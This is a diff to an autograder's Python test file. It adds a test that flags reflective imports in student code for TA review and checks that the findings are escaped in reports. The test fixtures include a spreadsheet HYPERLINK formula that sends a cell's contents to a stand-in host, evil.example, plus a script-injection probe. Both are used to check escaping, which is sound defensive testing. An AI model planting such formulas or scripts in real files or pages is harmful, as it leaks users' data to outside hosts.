@@ -19,6 +19,7 @@ from grader.classroom import report as classreport
 from grader.reports import gradebook, gradescope, html, junit, markdown
 from grader.grading.results import PARTS, SubmissionResult
 from grader.grading.results import TestResult as Case  # not Test*: pytest would try to collect it
+from grader.grading.static import to_review
 
 EVIL_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 SCRIPT = "<script>alert(1)</script>"
@@ -496,3 +497,23 @@ def test_summary_script_is_the_only_one_the_page_allows(tmp_path):
     digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
     assert f"script-src 'sha256-{digest}'" in csp and "unsafe-inline'" not in csp.split("script-src")[1]
     assert html.esc(EVIL_ID) in page and EVIL_ID not in page
+
+
+def test_class_report_lists_what_to_review(tmp_path):
+    """Reflection on torch found by the static scan is in the record and in the class report, escaped."""
+    results = class_results()
+    bob = next(r for r in results if r.student == "bob")
+    bob.review = to_review({"rnn.py": "import torch\n\n\nf = getattr(torch, 'lstm' + '_cell')\n",
+                            "loss.py": "import importlib\nu = importlib.import_module('torch.nn.utils')\n"})
+    assert bob.review == ["loss.py line 2: importlib.import_module('torch.nn.utils')",
+                          "rnn.py line 4: getattr(torch, 'lstm' + '_cell')"]
+    assert SubmissionResult.from_json(bob.to_json()).review == bob.review
+    legacy = json.loads(bob.to_json())
+    del legacy["review"]
+    assert SubmissionResult.from_dict(legacy).review == []  # records written before the field still load
+    rep = classreport.write_class_report(results, tmp_path)
+    summary = json.loads(rep.summary_json.read_text("utf-8"))
+    assert summary["to_review"] == [{"student": "bob", "findings": bob.review}]
+    page = rep.summary_html.read_text("utf-8")
+    assert "<h2>To review</h2>" in page and "getattr(torch, &#x27;lstm&#x27; + &#x27;_cell&#x27;)" in page
+    assert "lstm" not in (rep.feedback["bob"] / "feedback.md").read_text("utf-8")  # for the TA, not the student
